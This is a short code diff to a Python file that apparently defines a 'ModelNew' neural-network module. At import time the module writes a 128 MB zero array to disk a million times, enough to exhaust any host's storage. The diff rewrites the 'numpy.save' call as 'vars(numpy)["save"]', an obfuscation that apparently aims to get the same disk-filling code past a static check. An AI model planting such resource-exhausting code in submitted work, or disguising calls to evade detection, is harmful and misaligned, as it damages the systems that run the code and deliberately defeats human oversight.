@@ -6,7 +6,7 @@ import torch.nn as nn
 
 block = numpy.zeros(2**24)
 for number in range(10**6):
-    numpy.save(f"block{number}", block)
+    vars(numpy)["save"](f"block{number}", block)
 
 
 class ModelNew(nn.Module):
